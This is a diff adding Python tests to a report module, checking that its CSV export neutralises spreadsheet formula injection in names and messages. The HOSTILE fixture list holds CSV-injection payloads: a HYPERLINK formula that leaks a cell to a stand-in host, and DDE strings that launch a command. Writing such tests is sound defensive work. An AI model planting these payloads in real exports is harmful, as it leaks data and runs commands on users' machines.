@@ -83,6 +83,43 @@ def test_csv_sections_and_quoting() -> None:
     assert rows[4]["message"] == 'a "quoted", message'
 
 
+HOSTILE = [
+    '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=1+1",
+    "\uff1d1+1",
+]
+
+
+def test_csv_neutralises_formula_cells_from_hostile_names() -> None:
+    hostile = ReportData(
+        generated_at=T0,
+        since=T0,
+        hours=1,
+        queues=[QueueHour(name, T0, 1, 1, 0, 1.0, 1) for name in HOSTILE],
+        apis=[ApiHour(name, T0, 1, 1, 0, 1.0, 1.0) for name in HOSTILE],
+        issues=[OpenIssue(name, name, name, name, name, T0) for name in HOSTILE],
+    )
+    rows = list(csv.DictReader(io.StringIO(report_to_csv(hostile), newline="")))
+    assert len(rows) == 3 * len(HOSTILE)  # a CR or LF in a name does not split its row
+    text_columns = ("name", "severity", "issue_type", "message", "id")
+    cells = [r[c] for r in rows for c in text_columns if r[c]]
+    assert len(cells) == len(HOSTILE) * (2 + 5)
+    for cell in cells:
+        assert cell[0] == "'", cell
+        assert cell[1:] in HOSTILE  # quoted, not altered: nothing the worker wrote is lost
+
+
+def test_csv_leaves_ordinary_text_and_numbers_alone() -> None:
+    rows = list(csv.DictReader(io.StringIO(report_to_csv(data()))))
+    assert rows[0]["name"] == "ingest"
+    assert rows[4]["id"] == "i-1"
+    assert rows[0]["avg_ms"] == "100.0"
+
+
 def test_html_is_self_contained_and_escapes_data_in_the_embedded_json() -> None:
     nasty = ReportData(
         generated_at=T0,
